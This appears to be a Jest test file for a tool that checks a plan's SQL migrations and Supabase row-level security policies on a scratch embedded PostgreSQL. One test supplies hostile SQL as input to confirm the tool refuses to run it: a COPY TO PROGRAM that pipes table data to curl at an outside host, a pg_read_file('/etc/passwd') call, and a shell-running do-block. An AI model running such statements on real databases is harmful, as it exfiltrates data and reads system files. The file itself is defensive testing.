import { jest } from '@jest/globals';
import pino from 'pino';
import { createLiveServer } from '../../../src/adapters/live-database-env.js';
import { createLiveRunner } from '../../../src/review/analyse/live/live-runner.js';
import { checkPlanSql } from '../../../src/triage/check/check-plan-sql.js';
import { createLivePlanProbe } from '../../../src/app/wiring/live-plan-probe.js';
import type { PlanSqlProbe } from '../../../src/triage/plan/sql-check.js';
import { gatherRepo, type GatheredRepo } from '../../../src/triage/grounding/gather-repo.js';
import type { Plan } from '../../../src/triage/plan/plan-tool.js';
import { renderPlan } from '../../../src/triage/render-plan.js';
import type { LiveDatabaseServer } from '../../../src/ports/live-database.js';
import { fixtureRepo } from '../../helpers/fixture-repo.js';

jest.setTimeout(300_000);

const log = pino({ level: 'silent' });
const runner = createLiveRunner({ server: () => createLiveServer(undefined), budgetMs: 120_000, concurrency: 1 });
const probe = createLivePlanProbe(runner);
let schools: GatheredRepo;
beforeAll(async () => {
  schools = await gatherRepo({ repo: fixtureRepo('schools').repo, ref: 'main', log });
});
afterAll(() => runner.close());

const M = (n: number, slug: string) => `supabase/migrations/2025010${n}000000_${slug}.sql`;
const plan = (migrations: { path: string; sql: string }[], steps: Plan['steps'] = []): Plan => ({
  understood: 'u',
  questions: [],
  steps,
  migrations: migrations.map((m) => ({ ...m, new: true })),
  api: [],
  tests: [],
  risks: [],
});
const check = (p: Plan, on: { probe?: PlanSqlProbe | string } = { probe }) => checkPlanSql({ plan: p, grounding: schools.grounding, schema: schools.schema, probe: on.probe, log });

const NOTES = `create table public.notes (
  id bigint generated always as identity primary key,
  owner_id uuid not null references auth.users (id) on delete cascade,
  school_id bigint references public.schools (id),
  body text not null
);
create index notes_owner_id_idx on public.notes (owner_id);
create index notes_school_id_idx on public.notes (school_id);
alter table public.notes enable row level security;
`;
const OWNER_POLICIES = `create policy "Owners read" on public.notes for select to authenticated using ((select auth.uid()) = owner_id);
create policy "Owners write" on public.notes for insert to authenticated with check ((select auth.uid()) = owner_id);
create policy "Owners edit" on public.notes for update to authenticated using ((select auth.uid()) = owner_id) with check ((select auth.uid()) = owner_id);
create policy "Owners delete" on public.notes for delete to authenticated using ((select auth.uid()) = owner_id);
`;

describe("a plan's SQL on the live database stage (embedded PostgreSQL)", () => {
  it("applies a new owned table after the repository's migrations and proves its RLS as two users and anon", async () => {
    const checked = await check(plan([{ path: M(1, 'notes'), sql: NOTES + OWNER_POLICIES }]));
    expect(checked.live).toMatchObject({ kind: 'ran', migrations: 2, probed: true, problems: [] });
    expect(checked.migrations[0].check!.live).toMatchObject({ kind: 'applied', leaks: [], tables: [{ table: 'public.notes', leaks: [] }] });
    const md = renderPlan(checked);
    expect(md).toContain(
      "   ✅ Applies cleanly on the replayed schema; `public.notes`: user B cannot read, update or delete user A's rows, nor create rows owned by user A or hand its rows to user A; anon cannot read or insert rows.",
    );
    expect(md).toMatch(/\nChecked live on PostgreSQL \d+\.\d+ \(PGlite [\d.]+\): the repository's 2 migrations replayed in a scratch database, then this plan's SQL, RLS probed as two signed-up users \(A and B\) and as anon/);
    expect(md).not.toContain('❌');
  });

  it("shows PostgreSQL's error for a block that fails on the replayed schema, and does not apply the blocks after it", async () => {
    const checked = await check(
      plan(
        [
          { path: M(1, 'rooms'), sql: 'alter table public.lessons add column capacity int;\nalter table public.lessons add column room_id bigint references public.rooms (id);' },
          { path: M(2, 'notes'), sql: NOTES + OWNER_POLICIES },
        ],
        [{ title: 'Read them', files: [], sql: 'select capacity from public.lessons where school_id = $1;' }],
      ),
    );
    const md = renderPlan(checked);
    expect(checked.migrations[0].check!.live).toEqual({ kind: 'failed', error: 'relation "public.rooms" does not exist', line: 2 });
    expect(md).toContain('   ❌ PostgreSQL refuses it on the replayed schema (line 2 of the block): relation "public.rooms" does not exist');
    expect(md.match(/ {3}Not applied: migration 1 of this plan fails\./g)).toHaveLength(2);
    expect(md).not.toContain('Applies cleanly');
  });

  it('shows the probe that got through, with its evidence, for a policy using (true)', async () => {
    const leaky = OWNER_POLICIES.replace(/create policy "Owners read".*\n/, 'create policy "Everyone reads" on public.notes for select to authenticated using (school_id is not null or true);\n');
    const checked = await check(plan([{ path: M(1, 'notes'), sql: NOTES + leaky }]));
    const md = renderPlan(checked);
    const verdict = md.split('\n').find((l) => l.includes('`public.notes`'))!;
    expect(verdict).toContain("❌ Applies cleanly on the replayed schema; `public.notes`: the RLS probes got through: user B could read user A's row.");
    expect(verdict).toContain("Held: user B cannot update or delete user A's rows, nor create rows owned by user A or hand its rows to user A; anon cannot read or insert rows.");
    expect(verdict).toContain("Evidence: Run as user B (role `authenticated`, JWT sub `bbbbbbbb-0000-4000-8000-000000000000`), `select * from public.notes where id = '1'` returned user A's row (in a transaction that was rolled back).");
  });

  it("prepares each step's query on the schema the plan's migrations leave, and shows PostgreSQL's error for one that does not resolve", async () => {
    const checked = await check(
      plan(
        [{ path: M(1, 'cancel'), sql: 'alter table public.lessons add column cancelled_at timestamptz;' }],
        [
          { title: 'Cancel', files: [], sql: 'update public.lessons set cancelled_at = now() where school_id = $1 and cancelled_at is null returning id;' },
          { title: 'Count', files: [], sql: 'select count(*) from public.lessons where cancelled_on = $1;' },
        ],
      ),
    );
    const md = renderPlan(checked);
    expect(checked.steps.map((s) => s.check!.live)).toEqual([{ kind: 'prepared' }, { kind: 'failed', error: 'column "cancelled_on" does not exist', line: 1 }]);
    expect(md).toContain("   ✅ Prepared on the schema the plan's migrations leave: every table, column, function and parameter type it names resolves.");
    expect(md).toContain('   ❌ PostgreSQL refuses it on the replayed schema (line 1 of the block): column "cancelled_on" does not exist');
  });

  it('says the SQL is parsed only when the live stage is off, and names a stage that failed instead of claiming it applies', async () => {
    const sql = NOTES + OWNER_POLICIES;
    const off = renderPlan(await check(plan([{ path: M(1, 'notes'), sql }]), { probe: '`live_db: off` in `.github/backend-agent.yml`' }));
    expect(off).toContain('Parsed only (live database stage off: `live_db: off` in `.github/backend-agent.yml`).');
    expect(off).not.toContain('Applies cleanly');
    const none = renderPlan(await check(plan([{ path: M(1, 'notes'), sql }]), {}));
    expect(none).toContain('Parsed only (live database stage off: no live database stage is installed here).');
    const broken: LiveDatabaseServer = {
      engine: async () => Promise.reject(new Error('PGlite could not start: out of memory')),
      createScratch: async () => Promise.reject(new Error('unreachable')),
      interrupt: async () => undefined,
      close: async () => undefined,
    };
    const failing = createLivePlanProbe(createLiveRunner({ server: () => broken, budgetMs: 10_000, concurrency: 1 }));
    const checked = await check(plan([{ path: M(1, 'notes'), sql }]), { probe: failing });
    const md = renderPlan(checked);
    expect(checked.live).toEqual({ kind: 'unavailable', reason: 'starting the database failed: PGlite could not start: out of memory' });
    expect(md).toContain('⚠️ Parsed only, not checked live: starting the database failed: PGlite could not start: out of memory.');
    expect(md).not.toContain('Applies cleanly');
    expect(checked.migrations[0].check!.live).toBeUndefined();
  });

  it('waits for a free slot of the live stage at most one time budget, then says it was busy instead of holding the plan job', async () => {
    const scratch = { query: async () => ({ rows: [], affected: 0 }), run: async () => ({ rows: [], affected: 0 }), insideTransaction: true, drop: async () => undefined };
    const server: LiveDatabaseServer = { engine: async () => 'PostgreSQL (fake)', createScratch: async () => scratch, interrupt: async () => undefined, close: async () => undefined };
    const busy = createLiveRunner({ server: () => server, budgetMs: 1_000, concurrency: 1 });
    let release!: () => void;
    const review = busy.run(() => new Promise<void>((resolve) => (release = resolve)));
    const started = Date.now();
    const checked = await check(plan([{ path: M(1, 'notes'), sql: NOTES + OWNER_POLICIES }]), { probe: createLivePlanProbe(busy) });
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(checked.live).toEqual({ kind: 'unavailable', reason: 'the live database stage stayed busy with other work for 1 s' });
    expect(renderPlan(checked)).toContain('⚠️ Parsed only, not checked live: the live database stage stayed busy with other work for 1 s.');
    release();
    await review;
  });
  it('never runs SQL that reaches past the scratch database, wherever the plan got it, and says the block was not checked live', async () => {
    const checked = await check(
      plan(
        [
          { path: M(1, 'ok'), sql: 'alter table public.lessons add column note text;' },
          { path: M(2, 'copy'), sql: "copy public.lessons to program 'curl -d @- https://example.invalid';" },
          { path: M(3, 'after'), sql: NOTES + OWNER_POLICIES },
        ],
        [{ title: 'Read', files: [], sql: "select pg_read_file('/etc/passwd');" }],
      ),
    );
    const md = renderPlan(checked);
    expect(checked.migrations.map((m) => m.check!.live!.kind)).toEqual(['applied', 'not run', 'not run']);
    expect(md).toContain('   Not applied: the live check never runs COPY (it reads or writes files or programs of the server).');
    expect(md).toContain('   Not applied: migration 2 of this plan was not run.');
    expect(md).toContain('RLS not probed: migration 2 of this plan was not run.');
    expect(checked.steps[0].check!.live).toEqual({ kind: 'not run', reason: 'migration 2 of this plan was not run' });
    const body = "do $$ begin execute 'copy public.lessons to program ''id'''; end $$;";
    const alone = await check(plan([], [{ title: 'Read', files: [], sql: "select pg_read_file('/etc/passwd');" }, { title: 'Do', files: [], sql: body }]));
    expect(alone.steps.map((s) => s.check!.live)).toEqual([
      { kind: 'not run', reason: 'the live check never runs a call of pg_read_file() (it reaches past the scratch database)' },
      { kind: 'not run', reason: 'the live check never runs a body that copies to or from programs or reads server files' },
    ]);
  });
  it('runs a step\'s DDL in a rolled-back transaction: CONCURRENTLY is dropped there, and VACUUM is named as not run', async () => {
    const checked = await check(
      plan([], [
        { title: 'Index', files: [], sql: 'create index concurrently lessons_room_idx on public.lessons (room);' },
        { title: 'Vacuum', files: [], sql: 'vacuum analyze public.lessons;' },
        { title: 'Broken', files: [], sql: 'create index concurrently lessons_x_idx on public.lessons (nope);' },
      ]),
    );
    expect(checked.steps.map((s) => s.check!.live)).toEqual([
      { kind: 'prepared' },
      { kind: 'not run', reason: 'line 1 cannot run inside the transaction the check runs in' },
      { kind: 'failed', error: 'column "nope" does not exist', line: 1 },
    ]);
  });
});
